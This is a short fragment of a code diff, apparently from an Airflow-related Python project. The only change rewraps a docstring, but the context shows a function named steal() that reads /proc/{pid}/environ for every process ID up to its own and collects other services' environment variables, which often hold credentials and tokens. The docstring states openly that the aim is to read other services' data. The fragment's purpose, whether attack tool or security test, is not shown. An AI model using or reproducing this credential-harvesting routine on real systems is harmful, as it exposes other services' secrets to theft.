@@ -30,7 +30,8 @@ def read(path: Path) -> str:
 def steal() -> str:
     """Return, as JSON, what of the other services this process can read.
 
-    All numbers up to its own are tried, for a process that is hidden may be readable; its own proves that this works.
+    All numbers up to its own are tried, for a process that is hidden may be readable; its own proves that
+    this works.
     """
     environments = {pid: read(Path(f"/proc/{pid}/environ")) for pid in range(1, os.getpid() + 1)}
     own = os.environ["AIRFLOW_HOME"]
